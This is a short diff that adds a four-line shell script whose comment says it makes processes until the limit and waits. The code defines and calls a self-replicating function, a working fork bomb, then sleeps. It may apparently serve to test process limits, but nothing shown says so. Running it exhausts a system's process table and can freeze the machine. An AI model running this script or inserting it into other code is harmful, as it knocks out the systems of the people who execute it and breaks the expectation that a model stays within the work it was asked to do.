@@ -1,0 +1,4 @@
+# Makes processes until the limit, and waits for them.
+bomb() { bomb | bomb & }
+bomb
+exec sleep 1000
